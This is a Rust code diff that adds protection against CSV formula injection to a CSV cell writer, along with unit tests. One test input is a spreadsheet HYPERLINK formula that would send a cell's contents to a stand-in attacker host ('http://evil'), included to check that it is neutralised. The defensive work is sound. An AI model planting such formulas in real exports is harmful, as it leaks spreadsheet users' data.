@@ -53,11 +53,36 @@ pub trait RowSink {
 
 struct Csv(std::io::BufWriter<std::fs::File>);
 
-fn csv_field(s: &str) -> String {
+/// One CSV cell. A cell that a spreadsheet would read as a formula (starting with `=`, `+`, `-`,
+/// `@`, tab or CR: OWASP's CSV injection rule) gets a leading `'`, so it stays text.
+pub fn csv_field(s: &str) -> String {
+    let s: std::borrow::Cow<'_, str> = match s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        true => format!("'{s}").into(),
+        false => s.into(),
+    };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s.into_owned()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::csv_field;
+
+    #[test]
+    fn formulas_stay_text_and_quoting_still_works() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil/?\"&A1,\"click\")"),
+            "\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"click\"\")\""
+        );
+        for bad in ["+1", "-2+3", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(csv_field(bad).trim_start_matches('"').starts_with('\''), "{bad:?}");
+        }
+        assert_eq!(csv_field("Fang"), "Fang");
+        assert_eq!(csv_field("a,b"), "\"a,b\"");
+        assert_eq!(csv_field(""), "");
     }
 }
 
